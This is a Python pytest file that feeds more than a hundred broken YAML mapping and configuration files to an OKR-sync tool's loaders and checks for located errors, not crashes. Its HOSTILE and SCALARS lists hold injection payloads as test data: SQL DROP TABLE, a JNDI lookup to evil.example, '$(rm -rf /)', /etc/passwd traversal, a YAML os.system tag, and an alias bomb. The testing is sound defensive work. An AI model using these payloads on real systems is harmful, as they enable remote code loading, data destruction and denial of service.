"""Bad input corpus: broken mapping and configuration files give located errors, never a crash."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from okrsync.config import load_settings
from okrsync.errors import ConfigurationError, MappingError
from okrsync.mapping.loader import load_mappings
from tests.mapping_cases import BASE

if TYPE_CHECKING:
    from pathlib import Path

    from okrsync.catalog import Catalog
    from okrsync.plugins import PluginRegistry

pytestmark = pytest.mark.drill

SOURCES = {"salesforce": "salesforce", "hubspot": "hubspot"}
HOSTILE = [
    "'; DROP TABLE runs; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "$(rm -rf /)",
    "%s%s%s%n",
    "\u202eevil",
    "😀" * 50,
]
SCALARS = [
    "1e999",
    "-1e999",
    ".nan",
    ".inf",
    "-.inf",
    "9" * 400,
    "0x" + "f" * 200,
    "-0",
    "null",
    "~",
    "true",
    "[]",
    "{}",
    "2026-13-45",
    "!!binary aGVsbG8=",
    "!!python/object:os.system ls",
    "&a x",
    "*undefined",
    "|",
]


def _syntax() -> dict[str, bytes]:
    cases = {
        "tab_indent": "version: 1\n\tcycle: x\n",
        "unclosed_flow": "version: 1\ncycle: {name: 2026-Q3\n",
        "unclosed_quote": 'version: 1\ncycle: "2026\n',
        "bad_indent": "version: 1\n  cycle: x\n bad: y\n",
        "list_root": "- a\n- b\n",
        "scalar_root": "just text\n",
        "two_documents": BASE + "---\n" + BASE,
        "duplicate_anchor_use": "a: &x 1\nb: *y\n",
        "directive": "%YAML 9.9\n---\nversion: 1\n",
        "merge_key": "a: &x {b: 1}\nc:\n  <<: *x\n",
        "complex_key": "? [a, b]\n: c\n",
        "only_comment": "# nothing\n",
        "colon_mess": "version: : :\n",
        "unknown_tag": "version: !custom 1\n",
    }
    return {k: v.encode() for k, v in cases.items()}


def _encodings() -> dict[str, bytes]:
    return {
        "utf16_le_bom": BASE.encode("utf-16"),
        "utf16_be_bom": b"\xfe\xff" + BASE.encode("utf-16-be"),
        "utf16_no_bom": BASE.encode("utf-16-le"),
        "utf32": BASE.encode("utf-32"),
        "latin1": BASE.replace("title: KR", "title: Gr\u00fc\u00dfe").encode("latin-1"),
        "utf8_bom_then_junk": b"\xef\xbb\xbf" + BASE.encode() + b"\xff\xfe",
        "nul_bytes": BASE.encode().replace(b"title", b"ti\x00tle", 1),
        "nul_only": b"\x00" * 64,
        "control_chars": BASE.encode().replace(b"KR", b"K\x07\x1bR"),
        "lone_surrogate": b"title: \xed\xa0\x80\n",
        "truncated_utf8": BASE.encode() + b"x: \xe2\x82",
    }


def _structures() -> dict[str, bytes]:
    deep = "a: " + "[" * 5000 + "]" * 5000 + "\n"
    deep_map = "".join("  " * i + f"k{i}:\n" for i in range(400)) + "  " * 400 + "v: 1\n"
    bomb = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    bomb += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 10)]
    bomb_doc = "\n".join(bomb) + "\nversion: 1\n"
    huge = BASE + "# " + "x" * (10 * 1024 * 1024) + "\n"
    many_keys = BASE + "".join(f"extra{i}: {i}\n" for i in range(20000))
    return {
        "deep_flow_nesting": deep.encode(),
        "deep_block_nesting": deep_map.encode(),
        "alias_bomb": bomb_doc.encode(),
        "alias_bomb_in_kr": (BASE + "        weight: *nope\n").encode(),
        "ten_megabytes": huge.encode(),
        "many_keys": many_keys.encode(),
        "long_line": (BASE.replace("title: KR", "title: " + "K" * 200_000)).encode(),
        "empty": b"",
        "whitespace": b"   \n\n  \n",
    }


def _field_mutations() -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    targets = {
        "version": "version: 1",
        "cycle": "cycle: {name: 2026-Q3, start: 2026-07-01, end: 2026-09-30}",
        "objective_key": "  - key: o1",
        "kr_key": "      - key: k1",
        "kr_title": "        title: KR",
        "source": "        source: salesforce",
        "metric": "        metric: win_rate",
        "target": "        target: 35%",
    }
    for name, line in targets.items():
        head = line.split(":", 1)[0]
        for i, scalar in enumerate(SCALARS):
            out[f"{name}_scalar{i}"] = BASE.replace(line, f"{head}: {scalar}").encode()
        for i, text in enumerate(HOSTILE[:4]):
            quoted = text.replace("'", "''")
            out[f"{name}_hostile{i}"] = BASE.replace(line, f"{head}: '{quoted}'").encode()
    for i, text in enumerate(HOSTILE):
        quoted = text.replace("'", "''")
        out[f"hostile_key{i}"] = (BASE + f"        '{quoted}': 1\n").encode()
        out[f"hostile_top_key{i}"] = (BASE + f"'{quoted}': x\n").encode()
    return out


HUGE_TARGET = BASE.replace("target: 35%", "target: " + "9" * 400).encode()
"""A target too large for a float (it once crashed the loader with OverflowError)."""
CORPUS: dict[str, bytes] = {
    **_syntax(),
    **_encodings(),
    **_structures(),
    **_field_mutations(),
}
"""Broken mapping files by name (each a ``bad.yaml`` alone in its folder)."""


def _config_corpus() -> dict[str, bytes]:
    good = "connectors:\n  salesforce:\n    type: salesforce\n    auth: session\n"
    good += "    instance_url: https://example.my.salesforce.com\n"
    out = {f"config_{k}": v for k, v in list(_syntax().items()) + list(_encodings().items())}
    out["config_alias_bomb"] = _structures()["alias_bomb"]
    out["config_deep"] = _structures()["deep_flow_nesting"]
    out["config_ten_megabytes"] = (good + "# " + "x" * (10 * 1024 * 1024) + "\n").encode()
    for i, scalar in enumerate(SCALARS):
        out[f"config_timeout_{i}"] = (good + f"    timeout_seconds: {scalar}\n").encode()
        out[f"config_store_{i}"] = (good + f"store_url: {scalar}\n").encode()
        out[f"config_log_{i}"] = (good + f"log: {{level: {scalar}}}\n").encode()
    for i, text in enumerate(HOSTILE):
        quoted = text.replace("'", "''")
        out[f"config_hostile_key{i}"] = (good + f"'{quoted}': 1\n").encode()
        out[f"config_hostile_type{i}"] = good.replace(
            "type: salesforce", f"type: '{quoted}'"
        ).encode()
        out[f"config_hostile_secret{i}"] = (good + f"    session_id: '{quoted}'\n").encode()
    return out


CONFIG_CORPUS = _config_corpus()
"""Broken configuration files by name."""


def _located(exc: ConfigurationError, name: str) -> None:
    assert exc.problems, f"{name}: no located problem: {exc}"
    for problem in exc.problems:
        assert problem.file, f"{name}: problem without a file: {problem}"
        assert problem.message.strip(), f"{name}: problem without a message: {problem}"


def test_corpus_is_large_enough() -> None:
    """The corpus holds at least 100 broken mapping files and 100 broken configuration files."""
    print(f"corpus: {len(CORPUS)} mapping files, {len(CONFIG_CORPUS)} configuration files")  # noqa: T201
    assert len(CORPUS) >= 100
    assert len(CONFIG_CORPUS) >= 100


def test_broken_mappings_give_located_errors(tmp_path: Path, catalogs: dict[str, Catalog]) -> None:
    """Every broken mapping file either loads or raises a MappingError whose problems name the file with a message."""
    outcomes = {"located": 0, "loaded": 0}
    crashes: dict[str, str] = {}
    for name, content in CORPUS.items():
        folder = tmp_path / name
        folder.mkdir()
        (folder / "bad.yaml").write_bytes(content)
        try:
            load_mappings(folder, sources=SOURCES, catalogs=catalogs)
        except MappingError as exc:
            _located(exc, name)
            outcomes["located"] += 1
        except Exception as exc:  # noqa: BLE001  (collected, asserted below)
            crashes[name] = f"{type(exc).__name__}: {str(exc)[:200]}"
        else:
            outcomes["loaded"] += 1
    print(f"mapping corpus {len(CORPUS)}: {outcomes}, crashes {len(crashes)}")  # noqa: T201
    assert not crashes, crashes


def test_broken_configurations_give_located_errors(
    tmp_path: Path, registry: PluginRegistry
) -> None:
    """Every broken configuration file raises a ConfigurationError whose problems name the file with a message."""
    outcomes = {"located": 0, "loaded": 0}
    crashes: dict[str, str] = {}
    for name, content in CONFIG_CORPUS.items():
        path = tmp_path / f"{name}.yaml"
        path.write_bytes(content)
        try:
            load_settings(path, env={}, registry=registry)
        except ConfigurationError as exc:
            _located(exc, name)
            outcomes["located"] += 1
        except Exception as exc:  # noqa: BLE001  (collected, asserted below)
            crashes[name] = f"{type(exc).__name__}: {str(exc)[:200]}"
        else:
            outcomes["loaded"] += 1
    print(f"config corpus {len(CONFIG_CORPUS)}: {outcomes}, crashes {len(crashes)}")  # noqa: T201
    assert not crashes, crashes


def test_huge_integer_target_gives_a_located_error(
    tmp_path: Path, catalogs: dict[str, Catalog]
) -> None:
    """A target of 400 nines is reported as a located MappingError, not an OverflowError."""
    (tmp_path / "bad.yaml").write_bytes(HUGE_TARGET)
    with pytest.raises(MappingError) as caught:
        load_mappings(tmp_path, sources=SOURCES, catalogs=catalogs)
    _located(caught.value, "huge_target")
